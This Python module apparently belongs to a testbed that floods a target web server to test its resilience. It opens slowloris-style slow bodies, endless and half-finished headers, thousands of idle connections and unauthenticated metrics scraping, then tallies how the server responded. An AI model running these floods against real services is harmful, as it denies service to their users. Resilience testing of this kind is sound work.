"""Floods of connections: slow bodies, endless heads, half heads, and connections that do nothing."""

import asyncio
import contextlib
import itertools
import resource
from collections import Counter
from collections.abc import Awaitable, Callable

from testbed.attack.floods.target import Target
from testbed.attack.floods.wire import READ_BYTES, connected, send_all

SLOW_CONNECTIONS = 140
SLOW_BODY_BYTES = 1_000_000
SLOW_FIRST_BYTES = 900_000
SLOW_EVERY_S = 0.5
HEADER_MEGABYTES = 200
HALF_HEADS = 2_000
IDLE = 6_000
"""More than any cap below this machine's file limit lets in."""
FILES_OF_OUR_OWN = 200
OPENED_AT_ONCE = 100
SCRAPERS = 40


async def slow_bodies(target: Target) -> Counter[str]:
    """140 connections with one valid token, each with most of a large body, whose rest comes byte by byte."""

    async def one() -> str:
        async with connected(target) as (reader, writer):
            writer.write(target.webhook_head(SLOW_BODY_BYTES) + b"x" * SLOW_FIRST_BYTES)
            return await _until_answered(reader, writer, b"x", SLOW_EVERY_S, target.seconds)

    return await _all(one, SLOW_CONNECTIONS)


async def endless_headers(target: Target) -> Counter[str]:
    """200 MB of header lines in one request, over four connections, again and again."""
    line = b"X-Filler: " + b"h" * 4000 + b"\r\n"

    async def one() -> str:
        end = asyncio.get_running_loop().time() + target.seconds
        told = "closed"
        while True:
            with contextlib.suppress(OSError):
                told = await once()
            if asyncio.get_running_loop().time() >= end:
                return told

    async def once() -> str:
        async with connected(target) as (reader, writer):
            writer.write(f"POST {target.path} HTTP/1.1\r\nHost: {target.host}\r\n".encode())
            for _ in range(HEADER_MEGABYTES * 1_000_000 // 4 // len(line)):
                writer.write(line)
                await writer.drain()
                if reader.at_eof():
                    return "closed"
            return await _until_answered(reader, writer, b"", SLOW_EVERY_S, target.seconds)

    return await _all(one, 4)


async def half_heads(target: Target) -> Counter[str]:
    """2,000 connections that begin a head and never end it."""

    async def one() -> str:
        async with connected(target) as (reader, writer):
            writer.write(f"POST {target.path} HTTP/1.1\r\nHost: {target.host}\r\n".encode())
            return await _until_answered(reader, writer, b"X-A: b\r\n", 2.0, target.seconds)

    return await _all(one, HALF_HEADS)


async def idle(target: Target) -> Counter[str]:
    """As many connections as can be opened, none of which sends anything."""

    async def one() -> str:
        async with connected(target) as (reader, writer):
            return await _until_answered(reader, writer, b"", 1.0, target.seconds)

    return await _all(one, IDLE)


async def scrapes(target: Target) -> Counter[str]:
    """40 connections without any credential that ask for the metrics as fast as they come."""
    request = f"GET /metrics HTTP/1.1\r\nHost: {target.host}\r\n\r\n".encode()
    return await send_all(target, itertools.repeat(request), SCRAPERS)


async def _until_answered(
    reader: asyncio.StreamReader, writer: asyncio.StreamWriter, more: bytes, every_s: float, seconds: float
) -> str:
    """Send a little now and then until the other side answers or closes; return which."""
    answer = asyncio.ensure_future(reader.read(READ_BYTES))
    end = asyncio.get_running_loop().time() + seconds
    try:
        while asyncio.get_running_loop().time() < end:
            done, _ = await asyncio.wait({answer}, timeout=every_s)
            if done:
                return answer.result()[9:12].decode("latin-1") or "closed"
            writer.write(more)
        return "held to the end"
    finally:
        answer.cancel()


async def _all(one: Callable[[], Awaitable[str]], count: int) -> Counter[str]:
    """Run all connections at once, opened in groups, and count how they ended."""
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    ends: Counter[str] = Counter()

    async def counted() -> None:
        try:
            ends[await one()] += 1
        except OSError as error:
            ends[type(error).__name__] += 1

    tasks = []
    for number in range(min(count, hard - FILES_OF_OUR_OWN)):
        tasks.append(asyncio.create_task(counted()))
        if number % OPENED_AT_ONCE == 0:
            await asyncio.sleep(0.02)
    with contextlib.suppress(asyncio.CancelledError):
        await asyncio.gather(*tasks)
    return ends
